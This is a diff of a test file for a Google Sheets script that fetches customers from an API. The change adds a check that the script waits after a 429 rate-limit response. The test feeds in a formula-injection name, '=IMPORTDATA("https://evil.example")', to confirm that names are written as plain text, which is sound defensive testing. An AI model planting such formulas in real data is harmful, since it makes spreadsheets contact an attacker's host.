@@ -165,7 +165,7 @@ test.each(['/docs/pagination-and-sync', '/docs/retries-and-idempotency'])(
   },
 );
 
-test('the script for Google Sheets writes customers as text, so that no name becomes a formula', async () => {
+test('the script for Google Sheets waits after a 429, and writes customers as text, so that no name becomes a formula', async () => {
   const { tenant } = reader;
   for (const name of ['=IMPORTDATA("https://evil.example")', '+1', 'Ann'])
     await tenant.call('POST', '/v1/customers', { name });
@@ -175,17 +175,22 @@ test('the script for Google Sheets writes customers as text, so that no name bec
   const body = await (await fetch(url, { headers })).text();
   let written: (string | null)[][] = [];
   const range = { setValues: (rows: (string | null)[][]) => (written = rows) };
+  const answers = [429, 200];
+  const pauses: number[] = [];
   const google = {
+    Utilities: { sleep: (ms: number) => pauses.push(ms) },
     PropertiesService: { getScriptProperties: () => ({ getProperty: () => tenant.key }) },
     UrlFetchApp: {
       fetch: (...request: unknown[]) => {
-        expect(request).toEqual([url, { headers }]);
-        return { getContentText: () => body };
+        expect(request).toEqual([url, { headers, muteHttpExceptions: true }]);
+        const status = answers.shift();
+        return { getResponseCode: () => status, getContentText: () => (status === 200 ? body : '{}') };
       },
     },
     SpreadsheetApp: { getActiveSheet: () => ({ clear: () => ({ getRange: () => range }) }) },
   };
   runInNewContext(`${found?.text}; fillSheet();`, google);
+  expect(pauses).toEqual([60_000]);
   // A spreadsheet hides the apostrophe.
   expect(written.map((row) => [...row])).toEqual(
     expect.arrayContaining([
